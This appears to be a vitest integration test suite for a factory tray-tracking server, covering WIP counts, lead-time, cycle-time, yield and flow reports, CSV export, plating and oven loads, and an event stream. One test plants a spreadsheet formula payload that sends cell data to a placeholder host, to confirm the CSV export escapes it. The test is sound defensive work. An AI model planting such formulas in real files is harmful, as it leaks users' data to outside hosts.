import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import http from 'node:http';
import { eq } from 'drizzle-orm';
import { makeTestApp, type TestApp } from '../support/test-app';
import { insertFloorOrder, scan, stationId } from '../support/scan-fixtures';
import { orders } from '../../server/db/schema/orders';
import { customers } from '../../server/db/schema/customers';
import { trayStates } from '../../server/db/schema/trays';
import Papa from 'papaparse';
import type { RoutingStep, StationKind } from '@shared/domain/vocabulary';
import { PROJECTION_RUNS } from '../../server/services/projection.service';
import type { CycleTimeReport, FlowReport, LeadTimeReport, WipResponse, YieldReport } from '@shared/schemas/reports';

// A small order driven through every step by real scans with known times, then every report
// checked to the minute against values worked out by hand below. The factory calendar is set to
// UTC, 08:00-16:00 every day, so working time is easy to count.

const MIN = 60_000;
const T0 = Math.floor(Date.now() / MIN) * MIN;
// D0 = UTC midnight three days back: every event lies in the past and inside the 7-day limit
const D0 = Math.floor((T0 - 3 * 24 * 60 * MIN) / (24 * 60 * MIN)) * 24 * 60 * MIN;
const at = (minutes: number) => D0 + minutes * MIN;

const step = (seq: number, name: string, stationKind: StationKind, cureMinutes?: number): RoutingStep => ({
  seq,
  name,
  stationKind,
  trayMinutes: 10,
  pieceMinutes: 0.2,
  cureMinutes: cureMinutes ?? null,
  colour: null,
});
const ROUTING: RoutingStep[] = [
  step(1, 'Die striking', 'strike'),
  step(2, 'Colour 1 of 1: fill', 'fill'),
  step(3, 'Colour 1 of 1: cure', 'cure', 120),
  step(4, 'Plating', 'plate'),
  step(5, 'Final inspection', 'inspect'),
  step(6, 'Packing', 'pack'),
  step(7, 'Dispatch', 'dispatch'),
];

let t: TestApp;
let manager: Awaited<ReturnType<TestApp['agentAs']>>;
let operator: Awaited<ReturnType<TestApp['agentAs']>>;
let ST: Record<string, string>;
let small: ReturnType<typeof insertFloorOrder>;
let customerId: string;

async function post(events: unknown[]) {
  const res = await operator.post('/api/scans').send({ events });
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  for (const r of res.body.results) expect(r.status, JSON.stringify(r)).toBe('accepted');
}

async function wip(): Promise<WipResponse> {
  const res = await manager.get('/api/wip');
  expect(res.status).toBe(200);
  return res.body;
}
const kindOf = (w: WipResponse, k: string) => w.kinds.find((x) => x.stationKind === k)!;

beforeAll(async () => {
  t = makeTestApp({ log: (await import('pino')).pino({ level: 'error' }) });
  t.setNow(T0);
  ST = Object.fromEntries(['STR-1', 'FIL-1', 'OVN-1', 'PLT-1', 'INS-1', 'PCK-1', 'DSP-1'].map((c) => [c, stationId(t.deps, c)]));
  manager = await t.agentAs('manager');
  operator = await t.agentAs('operator');
  const admin = await t.agentAs('admin');
  const day = [{ start: '08:00', end: '16:00' }];
  const cal = await admin.put('/api/calendar').send({
    timeZone: 'UTC',
    week: { mon: day, tue: day, wed: day, thu: day, fri: day, sat: day, sun: day },
    daysOff: [],
    stations: [],
  });
  expect(cal.status, JSON.stringify(cal.body)).toBe(200);
  small = insertFloorOrder(t.deps, { trays: 2, quantity: 100, releasedAt: at(480), routing: ROUTING });
  customerId = t.deps.db.select().from(orders).where(eq(orders.id, small.orderId)).get()!.customerId;
});
afterAll(() => t.close());

describe('a small order through every step', () => {
  it('counts WIP from the trays’ current state as the scans arrive', async () => {
    const [A, B] = small.trays;
    let w = await wip();
    expect(kindOf(w, 'strike').waiting).toEqual({ trays: 2, pieces: 200 });

    await post([scan(A.code, ST['STR-1'], 'start', at(540))]);
    w = await wip();
    expect(kindOf(w, 'strike').waiting).toEqual({ trays: 1, pieces: 100 });
    expect(kindOf(w, 'strike').inProcess).toEqual({ trays: 1, pieces: 100 });
    expect(kindOf(w, 'strike').stations.find((s) => s.code === 'STR-1')!.inProcess).toEqual({ trays: 1, pieces: 100 });

    // tray A: strike 540-600 (2 misstruck), fill 630-690, oven from 700 (ready 820), plating 900-960
    // (3 plating defects), inspection 1000-1030 (5 reworked), packing 1950-1980, dispatch 2000-2010
    await post([
      scan(A.code, ST['STR-1'], 'finish', at(600), { goodQty: 98, scrapQty: 2, scrapReason: 'misstrike' }),
      scan(B.code, ST['STR-1'], 'start', at(560)),
    ]);
    await post([
      scan(B.code, ST['STR-1'], 'finish', at(620), { goodQty: 100, scrapQty: 0 }),
      scan(A.code, ST['FIL-1'], 'start', at(630)),
      scan(A.code, ST['FIL-1'], 'finish', at(690), { goodQty: 98, scrapQty: 0 }),
      scan(A.code, ST['OVN-1'], 'start', at(700)),
    ]);
    // A's cure ran out long before the server's "now": it waits for plating, with its 98 pieces
    w = await wip();
    expect(kindOf(w, 'plate').waiting).toEqual({ trays: 1, pieces: 98 });
    expect(kindOf(w, 'fill').waiting).toEqual({ trays: 1, pieces: 100 });
    expect(w.totals).toMatchObject({ trays: 2, pieces: 198 });

    // tray B: fill 700-750, oven from 760 (ready 880), plating 910-970, inspection 1040-1070 (1 scratched),
    // packing 1960-1990, dispatch 2005-2020
    await post([
      scan(B.code, ST['FIL-1'], 'start', at(700)),
      scan(B.code, ST['FIL-1'], 'finish', at(750), { goodQty: 100, scrapQty: 0 }),
      scan(B.code, ST['OVN-1'], 'start', at(760)),
      scan(A.code, ST['PLT-1'], 'start', at(900)),
      scan(B.code, ST['PLT-1'], 'start', at(910)),
      scan(A.code, ST['PLT-1'], 'finish', at(960), { goodQty: 95, scrapQty: 3, scrapReason: 'plating_defect' }),
      scan(B.code, ST['PLT-1'], 'finish', at(970), { goodQty: 100, scrapQty: 0 }),
      scan(A.code, ST['INS-1'], 'start', at(1000)),
      scan(A.code, ST['INS-1'], 'finish', at(1030), { goodQty: 95, scrapQty: 0, reworkQty: 5 }),
      scan(B.code, ST['INS-1'], 'start', at(1040)),
      scan(B.code, ST['INS-1'], 'finish', at(1070), { goodQty: 99, scrapQty: 1, scrapReason: 'scratch' }),
      scan(A.code, ST['PCK-1'], 'start', at(1950)),
      scan(B.code, ST['PCK-1'], 'start', at(1960)),
      scan(A.code, ST['PCK-1'], 'finish', at(1980), { goodQty: 95, scrapQty: 0 }),
      scan(B.code, ST['PCK-1'], 'finish', at(1990), { goodQty: 99, scrapQty: 0 }),
      scan(A.code, ST['DSP-1'], 'start', at(2000)),
      scan(B.code, ST['DSP-1'], 'start', at(2005)),
      scan(A.code, ST['DSP-1'], 'finish', at(2010), { goodQty: 95, scrapQty: 0 }),
      scan(B.code, ST['DSP-1'], 'finish', at(2020), { goodQty: 99, scrapQty: 0 }),
    ]);
    w = await wip();
    expect(w.totals).toEqual({ trays: 0, pieces: 0, moulds: 0 });
    const order = t.deps.db.select().from(orders).where(eq(orders.id, small.orderId)).get()!;
    expect(order.shippedAt).toBe(at(2020));
  });

  const q = () => ({ from: new Date(D0).toISOString(), to: new Date(T0).toISOString(), customerId });

  it('reports the lead time in calendar and working hours', async () => {
    const res = await manager.get('/api/reports/lead-time').query(q());
    expect(res.status).toBe(200);
    const r = res.body as LeadTimeReport;
    // released D0 08:00, shipped D1 09:40: 1540 min = 25.67 h; working: 08:00-16:00 (480) + 08:00-09:40 (100) = 9.67 h
    expect(r.orders).toHaveLength(1);
    expect(r.orders[0]).toMatchObject({ number: small.number, calendarHours: 25.67, workingHours: 9.67, onTime: true, dueDate: '2099-01-01' });
    expect(r.summary).toEqual({ n: 1, p50: 25.67, p85: 25.67, p95: 25.67, mean: 25.67 });
    expect(r.window.percentileMethod).toBe('Hyndman & Fan type 7');
  });

  it('reports queue and process time per station kind', async () => {
    const res = await manager.get('/api/reports/cycle-time').query(q());
    expect(res.status).toBe(200);
    const r = res.body as CycleTimeReport;
    const k = (kind: string) => r.stations.find((s) => s.stationKind === kind)!;
    expect(k('strike').process).toEqual({ n: 2, p50: 60, p85: 60, p95: 60, mean: 60 });
    expect(k('strike').queue).toMatchObject({ n: 2, p50: 70, mean: 70 }); // 60 and 80
    // fill queues 30 and 80: type 7 p85 = 30 + 0.85 x 50 = 72.5
    expect(k('fill').queue).toEqual({ n: 2, p50: 55, p85: 72.5, p95: 77.5, mean: 55 });
    expect(k('fill').process).toMatchObject({ n: 2, p50: 55 }); // 60 and 50
    // the oven closes on its own when plating starts: 120 min each; plating waited 80 and 30
    expect(k('cure').process).toMatchObject({ n: 2, p50: 120 });
    expect(k('cure').queue).toMatchObject({ n: 2, p50: 10 });
    expect(k('plate').queue).toMatchObject({ n: 2, p50: 55, mean: 55 });
    expect(k('pack').queue).toMatchObject({ n: 2, p50: 905 }); // 920 and 890, over the night
    expect(k('dispatch').process).toMatchObject({ n: 2, p50: 12.5 }); // 10 and 15
    // working minutes of the calendar (08:00-16:00) beside the clock's: packing waited 920 and 890
    // clock minutes, of which 30 and 40 working (from 08:00 the next day); inspection ran after 16:00
    expect(k('pack').queueWorking).toMatchObject({ n: 2, p50: 35 });
    expect(k('inspect').process).toMatchObject({ n: 2, p50: 30 });
    expect(k('inspect').processWorking).toMatchObject({ n: 2, p50: 0 });
    expect(k('plate').processWorking).toMatchObject({ n: 2, p50: 55 }); // 60 and 50 (B plated to 16:10)
    // Flow efficiency takes process and flow time in one unit (flow efficiency = value-adding time /
    // lead time, Modig & Åhlström 2012). Working minutes: process A 60+60+60+0+30+10 = 220, B
    // 60+50+50+0+30+15 = 205, over working flow 570 + 580 = 1150: 425 / 1150. Calendar minutes:
    // 250 + 245 = 495 over 1540 + 1530 = 3070. Cure (120 + 120, all inside the shift) apart in both.
    expect(r.flowEfficiency).toMatchObject({ trays: 2, unit: 'working_minutes', cureValueAdding: false });
    expect(r.flowEfficiency.working).toEqual({ processMinutes: 425, cureMinutes: 240, flowMinutes: 1150, flowEfficiency: 0.3696, cureShare: 0.2087 });
    expect(r.flowEfficiency.calendar).toEqual({ processMinutes: 495, cureMinutes: 240, flowMinutes: 3070, flowEfficiency: 0.1612, cureShare: 0.0782 });
    // never the mixed figure: calendar process over working flow (495 / 1150 = 0.4304)
    expect([r.flowEfficiency.working.flowEfficiency, r.flowEfficiency.calendar.flowEfficiency]).not.toContain(0.4304);
  });

  it('reports first-pass yield per step, rolled throughput yield per order and scrap by reason', async () => {
    const res = await manager.get('/api/reports/yield').query(q());
    expect(res.status).toBe(200);
    const r = res.body as YieldReport;
    const s = (kind: string) => r.steps.find((x) => x.stationKind === kind)!;
    expect(s('strike')).toMatchObject({ inQty: 200, goodQty: 198, scrapQty: 2, firstPassYield: 0.99 });
    expect(s('plate')).toMatchObject({ inQty: 198, goodQty: 195, firstPassYield: 0.9848 });
    // inspection: 189 passed first time of 195, 194 good in the end (5 reworked)
    expect(s('inspect')).toMatchObject({ inQty: 195, firstPassQty: 189, goodQty: 194, reworkQty: 5, firstPassYield: 0.9692, finalYield: 0.9949 });
    // RTY = 198/200 x 195/198 x 189/195 = 189/200 exactly (other steps 1)
    expect(r.orders).toEqual([
      expect.objectContaining({ number: small.number, inQty: 200, goodQty: 194, reworkQty: 5, rolledThroughputYield: 0.945, finalYield: 0.97 }),
    ]);
    expect(r.scrap.map((x) => [x.reason, x.qty, x.cumulativeShare])).toEqual([
      ['plating_defect', 3, 0.5],
      ['misstrike', 2, 0.8333],
      ['scratch', 1, 1],
    ]);
    expect(r.rework.qty).toBe(5);
  });

  it('draws the cumulative flow per day and the throughput', async () => {
    const res = await manager.get('/api/reports/flow').query({ ...q(), bucket: 'day' });
    expect(res.status).toBe(200);
    const r = res.body as FlowReport;
    expect(r.stages).toEqual(['released', 'started', 'inspected', 'packed', 'shipped']);
    const d0 = r.buckets[0];
    const d1 = r.buckets[1];
    expect(d0.label).toBe(new Date(D0).toISOString().slice(0, 10));
    expect(d0.cumulative).toEqual([2, 2, 2, 0, 0]);
    expect(d0.wipAtEnd).toBe(2);
    // trays in the system from 08:00 to midnight of D0: 16 h of 24 -> 2 x 16/24
    expect(d0.wipAverage).toBe(1.33);
    expect(d1.cumulative).toEqual([2, 2, 2, 2, 2]);
    expect(d1).toMatchObject({ trays: 2, pieces: 194, orders: 1, wipAtEnd: 0 });
  });

  it('serves each report as CSV at the same path with .csv', async () => {
    for (const path of ['lead-time', 'cycle-time', 'flow', 'on-time', 'yield']) {
      const res = await manager.get(`/api/reports/${path}.csv`).query(q()).buffer(true);
      expect(res.status, path).toBe(200);
      expect(res.headers['content-type']).toMatch(/text\/csv/);
      expect(res.headers['content-disposition']).toMatch(new RegExp(`attachment; filename="${path}-`));
      expect(res.text.split('\r\n').length, path).toBeGreaterThan(1);
    }
    const lead = await manager.get('/api/reports/lead-time.csv').query(q()).buffer(true);
    expect(lead.text.replace(/^\uFEFF/, '').split('\r\n')[1]).toContain(`${small.number},`);
    expect(lead.text).toContain(',25.67,9.67,2099-01-01,yes');
  });

  it('escapes a customer name that a spreadsheet would run as a formula (OWASP CSV Injection)', async () => {
    const attack = '=HYPERLINK("http://x/?"&A1,"Open")';
    const before = t.deps.db.select().from(customers).where(eq(customers.id, customerId)).get()!.name;
    t.deps.db.update(customers).set({ name: attack }).where(eq(customers.id, customerId)).run();
    try {
      const res = await manager.get('/api/reports/lead-time.csv').query(q()).buffer(true);
      expect(res.status).toBe(200);
      const rows = Papa.parse<string[]>(res.text.replace(/^\uFEFF/, '')).data;
      const col = rows[0].indexOf('customer');
      const row = rows.find((r) => r[0] === small.number)!;
      // a leading single quote makes the cell text (papaparse escapeFormulae)
      expect(row[col]).toBe(`'${attack}`);
      expect(res.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    } finally {
      t.deps.db.update(customers).set({ name: before }).where(eq(customers.id, customerId)).run();
    }
  });

  it('lets sales read lead time but not yields', async () => {
    const sales = await t.agentAs('sales');
    expect((await sales.get('/api/reports/lead-time').query(q())).status).toBe(200);
    expect((await sales.get('/api/reports/yield').query(q())).status).toBe(403);
  });

  it('refuses a period that ends before it starts', async () => {
    const res = await manager.get('/api/reports/cycle-time').query({ from: '2025-06-10', to: '2025-06-01' });
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('bad_input');
  });
});

describe('trays curing and on hold', () => {
  it('counts a tray in the oven as curing at the oven, and a held tray also as held', async () => {
    const other = insertFloorOrder(t.deps, { trays: 1, quantity: 40, releasedAt: T0 - 600 * MIN, routing: ROUTING, stepSeq: 3 });
    await post([scan(other.trays[0].code, ST['OVN-1'], 'start', T0 - 30 * MIN)]);
    const hold = await operator
      .post('/api/scans')
      .send({ events: [scan(other.trays[0].code, ST['OVN-1'], 'hold', T0 - 20 * MIN, { scrapReason: 'hold_quality' })] });
    expect(hold.body.results[0].status).toBe('accepted');
    const w = await wip();
    const cure = kindOf(w, 'cure');
    expect(cure.curing).toEqual({ trays: 1, pieces: 40 });
    expect(cure.held).toBe(1);
    expect(cure.stations.find((s) => s.code === 'OVN-1')!.curing).toEqual({ trays: 1, pieces: 40 });
    const wall = await manager.get('/api/wall');
    expect(wall.status).toBe(200);
    expect(wall.body.curing.map((c: { number: string }) => c.number)).toContain(other.trays[0].number);
    expect(wall.body.holds.map((c: { number: string }) => c.number)).toContain(other.trays[0].number);
  });

  it('projects a ship date for an open order, the 85th percentile no earlier than the expected one', async () => {
    const open = insertFloorOrder(t.deps, { trays: 2, quantity: 50, releasedAt: T0 - 60 * MIN, routing: ROUTING });
    const res = await manager.get('/api/projections');
    expect(res.status).toBe(200);
    const p = (res.body as { orderId: string; expectedAt: string; p85At: string; explanation: string }[]).find((x) => x.orderId === open.orderId)!;
    // seven steps of 10 min + 0.2 min x 50 pieces = 20 min each, plus a 120 min cure, all still to do
    expect(Date.parse(p.expectedAt)).toBeGreaterThan(T0 + 120 * MIN);
    expect(Date.parse(p.p85At)).toBeGreaterThanOrEqual(Date.parse(p.expectedAt));
    expect(p.explanation, p.explanation).toMatch(new RegExp(`85 of ${PROJECTION_RUNS} `));
    expect(p.explanation, p.explanation).toMatch(/7 steps left: 2.3 h of standard work/);
  });
});

describe('oven and plating loads', () => {
  it('groups waiting trays of two orders into one plating load and splits it back with each order’s pieces', async () => {
    const o1 = insertFloorOrder(t.deps, { trays: 2, quantity: 30, releasedAt: T0 - 60 * MIN, routing: ROUTING, stepSeq: 4 });
    const o2 = insertFloorOrder(t.deps, { trays: 1, quantity: 45, releasedAt: T0 - 90 * MIN, routing: ROUTING, stepSeq: 4 });
    const overview = await manager.get('/api/loads');
    expect(overview.status).toBe(200);
    const gold = overview.body.plating.find((g: { key: string }) => g.key === 'gold');
    expect(gold.trays.map((x: { number: string }) => x.number)).toEqual(expect.arrayContaining([...o1.trays, ...o2.trays].map((x) => x.number)));
    const ids = [...o1.trays, ...o2.trays].map((x) => x.id);
    const created = await manager.post('/api/loads').send({ kind: 'plate', trayIds: ids });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(created.body.pieces).toBe(105);
    const perOrder = Object.fromEntries(created.body.orders.map((o: { orderId: string; pieces: number }) => [o.orderId, o.pieces]));
    expect(perOrder).toEqual({ [o1.orderId]: 60, [o2.orderId]: 45 });
    // a tray cannot be in two open loads
    const again = await manager.post('/api/loads').send({ kind: 'plate', trayIds: [o2.trays[0].id] });
    expect(again.status).toBe(409);
    const split = await manager.post(`/api/loads/${created.body.id}/split`);
    expect(split.status).toBe(200);
    expect(split.body.status).toBe('split');
    expect(Object.fromEntries(split.body.orders.map((o: { orderId: string; pieces: number }) => [o.orderId, o.pieces]))).toEqual(perOrder);
    // the trays themselves still hold their own pieces
    const after = await wip();
    expect(kindOf(after, 'plate').waiting.pieces).toBeGreaterThanOrEqual(105);
  });

  it('refuses to mix finishes in one plating load, and trays not waiting for it', async () => {
    const a = insertFloorOrder(t.deps, { trays: 1, quantity: 20, releasedAt: T0 - 60 * MIN, routing: ROUTING, stepSeq: 4 });
    const b = insertFloorOrder(t.deps, { trays: 1, quantity: 20, releasedAt: T0 - 60 * MIN, routing: ROUTING, stepSeq: 4 });
    t.deps.db.update(orders).set({ plating: 'black_nickel' }).where(eq(orders.id, b.orderId)).run();
    const mixed = await manager.post('/api/loads').send({ kind: 'plate', trayIds: [a.trays[0].id, b.trays[0].id] });
    expect(mixed.status).toBe(409);
    expect(mixed.body.error.code).toBe('mixed_load');
    const wrong = await manager.post('/api/loads').send({ kind: 'cure', trayIds: [a.trays[0].id] });
    expect(wrong.status).toBe(400);
  });

  it('groups trays waiting for the oven by cure profile', async () => {
    const c = insertFloorOrder(t.deps, { trays: 2, quantity: 25, releasedAt: T0 - 60 * MIN, routing: ROUTING, stepSeq: 3 });
    const res = await manager.get('/api/loads');
    const g = res.body.oven.find((x: { key: string }) => x.key === '120');
    expect(g.label).toBe('120 min cure');
    expect(g.trays.map((x: { number: string }) => x.number)).toEqual(expect.arrayContaining(c.trays.map((x) => x.number)));
  });

  it('never offers a held tray for a load, and refuses one sent anyway', async () => {
    const c = insertFloorOrder(t.deps, { trays: 2, quantity: 25, releasedAt: T0 - 60 * MIN, routing: ROUTING, stepSeq: 3 });
    const [held, free] = c.trays;
    t.deps.db.update(trayStates).set({ onHold: true, holdReason: 'hold_quality' }).where(eq(trayStates.trayId, held.id)).run();
    const res = await manager.get('/api/loads');
    const offered = (res.body.oven as { trays: { number: string }[] }[]).flatMap((g) => g.trays.map((x) => x.number));
    expect(offered).toContain(free.number);
    expect(offered).not.toContain(held.number);
    const refused = await manager.post('/api/loads').send({ kind: 'cure', trayIds: [held.id] });
    expect(refused.status).toBe(409);
    expect(refused.body.error.code).toBe('on_hold');
  });
});

describe('the working calendar', () => {
  it('refuses an unknown time zone and keeps what was saved', async () => {
    const admin = await t.agentAs('admin');
    const bad = await admin
      .put('/api/calendar')
      .send({ timeZone: 'Nowhere/Else', week: { mon: [], tue: [], wed: [], thu: [], fri: [], sat: [], sun: [] }, daysOff: [] });
    expect(bad.status).toBe(400);
    const view = await admin.get('/api/calendar');
    expect(view.body.timeZone).toBe('UTC');
    expect(view.body.week.sun).toEqual([{ start: '08:00', end: '16:00' }]);
    expect((await manager.put('/api/calendar').send(view.body)).status).toBe(403);
  });
});

describe('GET /api/stream', () => {
  it('sends the WIP at once and a scan event when a scan is accepted', async () => {
    const server = t.app.listen(0);
    try {
      const port = (server.address() as { port: number }).port;
      const login = await fetch(`http://127.0.0.1:${port}/api/auth/login`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ email: manager.user.email, password: manager.user.password }),
      });
      const cookie = login.headers
        .getSetCookie()
        .map((c) => c.split(';')[0])
        .join('; ');
      const received: { event: string; data: string }[] = [];
      const req = http.get(`http://127.0.0.1:${port}/api/stream`, { headers: { cookie, accept: 'text/event-stream' } });
      const opened = new Promise<http.IncomingMessage>((resolve) => req.on('response', resolve));
      const res = await opened;
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toMatch(/text\/event-stream/);
      let buffer = '';
      res.on('data', (chunk) => {
        buffer += chunk;
        let i;
        while ((i = buffer.indexOf('\n\n')) >= 0) {
          const block = buffer.slice(0, i);
          buffer = buffer.slice(i + 2);
          const event = /^event: (.*)$/m.exec(block)?.[1];
          const data = /^data: (.*)$/m.exec(block)?.[1];
          if (event && data) received.push({ event, data });
        }
      });
      const until = async (pred: () => boolean, ms: number) => {
        const end = Date.now() + ms;
        while (!pred() && Date.now() < end) await new Promise((r) => setTimeout(r, 20));
        return pred();
      };
      expect(await until(() => received.some((e) => e.event === 'wip'), 2000)).toBe(true);
      const fresh = insertFloorOrder(t.deps, { trays: 1, quantity: 10, releasedAt: T0 - 60 * MIN, routing: ROUTING });
      const sent = Date.now();
      await post([scan(fresh.trays[0].code, ST['STR-1'], 'start', T0 - MIN)]);
      expect(await until(() => received.some((e) => e.event === 'scan' && JSON.parse(e.data).trayNumber === fresh.trays[0].number), 2000)).toBe(true);
      expect(Date.now() - sent).toBeLessThan(2000);
      const lastWip = JSON.parse(received.filter((e) => e.event === 'wip').at(-1)!.data) as WipResponse;
      expect(lastWip.kinds.find((k) => k.stationKind === 'strike')!.inProcess.trays).toBeGreaterThanOrEqual(1);
      req.destroy();
    } finally {
      server.closeAllConnections();
      server.close();
    }
  });
});
